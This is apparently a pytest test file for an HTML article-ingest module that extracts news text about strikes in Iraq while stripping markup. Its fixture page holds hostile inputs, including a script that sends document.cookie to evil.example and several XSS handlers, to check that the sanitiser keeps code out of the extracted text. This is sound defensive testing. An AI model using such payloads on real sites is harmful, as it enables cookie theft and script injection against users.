import sys
import warnings

import pytest

from geostrikes.ingest import InputWarning, read_articles
from geostrikes.ingest import html as html_format
from geostrikes.ingest.html import declared_charset, parse_html, strip_tags

STORY = (
    "A drone struck the Kalsu military base south of Baghdad on Friday, killing one "
    "member of the Popular Mobilisation Forces, Iraqi officials said. The U.S. military "
    "said it had not carried out any air strike in Iraq that day."
)

HOSTILE_PAGE = f"""<!doctype html>
<html><head><title>Blast hits Kalsu base</title>
<script>var leak = "<p>script text</p>"; fetch("https://evil.example/" + document.cookie);</script>
<style>p {{ color: red }} .secret::after {{ content: "style text" }}</style>
</head><body>
<nav><a href="/">Home</a> <a href="/news">News</a></nav>
<h1>Blast hits Kalsu base</h1>
<p>{STORY} <img src="x.png" onerror="alert('img-handler')"></p>
<iframe src="javascript:alert('frame')">iframe text</iframe>
<p onclick="steal()">Officials said they were investigating the cause of the explosion.</p>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<script>document.write('<b>written</b>')</script>
<noscript><img src="tracker.gif"></noscript>
</body></html>"""

CODE_FRAGMENTS = [
    "<",
    ">",
    "script",
    "alert",
    "onerror",
    "onclick",
    "onload",
    "document.",
    "fetch(",
    "iframe text",
    "style text",
    "color: red",
    "written",
    "steal",
]


def read(path, **kwargs):
    skips = []
    articles = list(read_articles(path, on_skip=lambda w, r: skips.append((w, r)), **kwargs))
    return articles, skips


def assert_no_code(text):
    for fragment in CODE_FRAGMENTS:
        assert fragment not in text, fragment


def test_main_text_and_title_are_extracted(tmp_path):
    path = tmp_path / "kalsu.html"
    path.write_text(HOSTILE_PAGE, encoding="utf-8")
    articles, skips = read(path)
    assert skips == []
    [article] = articles
    assert article.id == "kalsu"
    assert article.title == "Blast hits Kalsu base"
    assert STORY in article.text
    assert "Officials said they were investigating" in article.text


def test_scripts_iframes_and_handlers_never_reach_the_text(tmp_path):
    path = tmp_path / "kalsu.htm"
    path.write_text(HOSTILE_PAGE, encoding="utf-8")
    [article] = read(path)[0]
    assert_no_code(article.text)
    assert_no_code(article.title)


def test_fallback_stripper_drops_code_too(monkeypatch):
    monkeypatch.setattr(html_format, "_trafilatura", lambda markup: ("", None))
    article = parse_html(HOSTILE_PAGE.encode(), id="a")
    assert STORY in article.text
    assert "Home News" in article.text  # the stripper keeps everything visible
    assert article.title == "Blast hits Kalsu base"
    assert_no_code(article.text)


def test_page_trafilatura_finds_nothing_in_is_read_by_the_stripper():
    article = parse_html(b"<p>Strike on Erbil.</p>", id="a")
    assert article.text == "Strike on Erbil."


def test_stripper_puts_blocks_on_their_own_lines():
    text, title = strip_tags("<div>One</div><p>Two <b>bold</b></p><ul><li>Three</li></ul>")
    assert (text, title) == ("One\n\nTwo bold\n\nThree", None)


def test_stripper_skips_everything_after_an_unclosed_script():
    text, _ = strip_tags("<p>Strike on Erbil.</p><script>alert(1)<p>more")
    assert text == "Strike on Erbil."


def test_stripper_decodes_entities():
    assert strip_tags("<p>Al-Asad &amp; Ain &lt;al-Asad&gt; &#8212; caf&eacute;</p>")[0] == (
        "Al-Asad & Ain <al-Asad> — café"
    )


def test_entities_in_the_page_are_plain_text_in_the_article():
    page = b"<title>A &amp; B</title><p>Tom &amp; Jerry &#8212; caf&eacute;</p>"
    article = parse_html(page, id="a")
    assert article.text == "Tom & Jerry — café"
    assert article.title == "A & B"


def test_meta_charset_windows_1252_is_honoured():
    page = (
        b'<html><head><meta charset="windows-1252"><title>Frappe</title></head>'
        b"<body><p>L'arm\xe9e a frapp\xe9 pr\xe8s de Mossoul, \x93selon\x94 le porte-parole.</p>"
        b"</body></html>"
    )
    text = parse_html(page, id="a").text
    assert "L'armée a frappé près de Mossoul, “selon” le porte-parole." in text


def test_declared_charset_is_found_in_http_equiv_meta():
    page = b'<meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1">'
    assert declared_charset(page) == "ISO-8859-1"


def test_page_without_text_is_skipped(tmp_path):
    path = tmp_path / "empty.html"
    path.write_text("<html><head><script>alert(1)</script></head><body></body></html>")
    assert read(path) == ([], [(str(path), "no text in the page")])


def test_empty_html_file_is_skipped_as_empty(tmp_path):
    path = tmp_path / "empty.html"
    path.write_bytes(b"")
    assert read(path) == ([], [(str(path), "empty")])


def test_mojibake_in_a_page_is_repaired():
    article = parse_html("<p>Please waitâ€¦</p>".encode(), id="a")
    assert article.text == "Please wait…"


def test_without_trafilatura_pages_are_stripped_with_one_warning(monkeypatch):
    monkeypatch.setitem(sys.modules, "trafilatura", None)  # makes the import fail
    monkeypatch.setattr(html_format, "_trafilatura_missing_warned", False)
    with pytest.warns(InputWarning, match="trafilatura cannot be imported"):
        first = parse_html(HOSTILE_PAGE.encode(), id="a")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        parse_html(b"<p>Second page.</p>", id="b")
    assert STORY in first.text
    assert_no_code(first.text)


def test_length_cap_counts_the_page_text_not_its_markup(tmp_path):
    page = tmp_path / "page.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    text = read_articles(page).__next__().text
    assert len(HOSTILE_PAGE) > 2 * len(text)
    kept = list(read_articles(page, max_chars=len(text) + 10, on_skip=pytest.fail))
    assert [a.id for a in kept] == ["page"]
    skips = []
    assert list(read_articles(page, max_chars=len(text) // 2,
                              on_skip=lambda w, r: skips.append((w, r)))) == []
    assert skips[0][0] == str(page) and "longer than the cap" in skips[0][1]


def test_page_far_bigger_than_the_length_cap_is_skipped_unread(tmp_path, monkeypatch):
    page = tmp_path / "page.html"
    page.write_text(f"<p>{STORY}</p>" + "<div class='ad'></div>" * 100, encoding="utf-8")
    monkeypatch.setattr(html_format, "parse_html", lambda *a, **k: pytest.fail("was parsed"))
    skips = []
    assert list(read_articles(page, max_chars=200,
                              on_skip=lambda w, r: skips.append((w, r)))) == []
    size = page.stat().st_size
    assert skips == [(str(page), f"page larger than 2,000 bytes ({size:,}), ten for each "
                      "character of the length cap; raise max_chars (--max-chars) to read it")]
